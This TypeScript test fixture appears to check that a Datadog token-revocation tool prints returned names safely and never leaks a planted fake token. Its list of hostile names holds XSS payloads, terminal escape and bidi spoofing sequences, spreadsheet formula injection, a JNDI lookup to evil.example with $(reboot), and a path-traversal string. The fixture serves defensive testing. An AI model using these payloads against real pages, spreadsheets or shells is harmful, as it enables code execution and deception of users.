/** A token value that is planted wherever others write; its secret must come out nowhere. */
export const PLANTED_SECRET = "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
export const PLANTED_ALIAS = "ddpat_000000000Qdww5P8dQtGsa";
export const PLANTED_VALUE = `${PLANTED_ALIAS}_${PLANTED_SECRET}`;

/** Names that Datadog may give back, made to break a page, a table, a spreadsheet, a terminal, or a reader's eye. */
export const NASTY_NAMES = [
  // Pages.
  `<script>document.title="taken over"</script>`,
  `"><img src=x onerror="document.title='taken over'">`,
  `'></bdi></td></tr></table><h1>Nothing was revoked</h1>`,
  "</script><style>*{display:none}</style><!--",
  "javascript:document.title='taken over'",
  "&lt;b&gt;&amp;amp;",
  // Terminals.
  "\u202Egnp.exe\u202C and \u2066isolated",
  "\u001b[2J\u001b[31mred\u001b[0m\u0007",
  "\u001b]0;title\u0007\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\",
  "\u009b31mC1\u009d0;title\u009c\u0090q\u0085",
  "line one\r\nline two\u2028line three\u2029four\u000b\u000cfive\u0000",
  "\u200Frtl mark\u200E ltr mark\u061C arabic mark",
  "over\b\b\b\b\u007fwritten\r100 % done",
  // Spreadsheets and shells.
  `=cmd|' /C calc'!A0`,
  `+1+1,"=HYPERLINK(""https://evil.example"")"`,
  "@SUM(A1)\t-2+3",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of another language
  "${jndi:ldap://evil.example/a} $(reboot) `reboot`",
  "%s%n%1$s %d {} {0} $1 $& \\0",
  // Markdown.
  "| a | [click](https://evil.example) ![x](https://evil.example/x.png) | `code` **bold** ~~struck~~ #1 @everyone",
  "[x]: https://evil.example\n# heading",
  // Eyes.
  "שלום עולם (team)",
  "👩‍💻🏴󠁧󠁢󠁥󠁮󠁧󠁿 e\u0301\u0301\u0301\u0301 Z͑ͫ̓ͪ̂ͫ̽a̴̵l̷g̸o",
  "wide 日本語 ｆｕｌｌ and nothing\u200b\u200b\u2060\ufeff",
  "a\uD800lone surrogate\uDC00",
  "n".repeat(4000),
  `${"\u200b".repeat(3000)}behind`,
  "   ",
  // What looks like something of this package's own.
  "00000000-0000-1234-0000-000000000000",
  "x  alreadyRevoked  2026-01-01T00:00:00.000Z  verified",
  "x\n00000000-0000-1234-0000-000000000000: revoked and verified",
  "(secret)",
  "__proto__",
  "constructor",
  "toString",
  "../../../etc/passwd",
  "null",
  PLANTED_VALUE,
  `key=${PLANTED_VALUE}&x`,
] as const;

/** What no output may hold: what steers a terminal, turns text round, ends a line unasked, or is half a character. */
const STEERS = /[\p{Cc}\p{Bidi_Control}\p{Zl}\p{Zp}\p{Surrogate}]/u;

/** Fails unless a printed text, of one line or of several, is safe to show, and holds nothing of the planted secret. */
export function expectHarmless(text: string, lines: "one line" | "lines" = "one line"): void {
  const rest = lines === "lines" ? text.replaceAll("\n", "") : text;
  const found = STEERS.exec(rest);
  if (found) {
    const code = found[0].charCodeAt(0).toString(16).padStart(4, "0");
    throw new Error(`holds U+${code}: ${JSON.stringify(rest.slice(Math.max(0, found.index - 40), found.index + 40))}`);
  }
  if (text.includes(PLANTED_SECRET)) throw new Error("holds the planted secret");
}
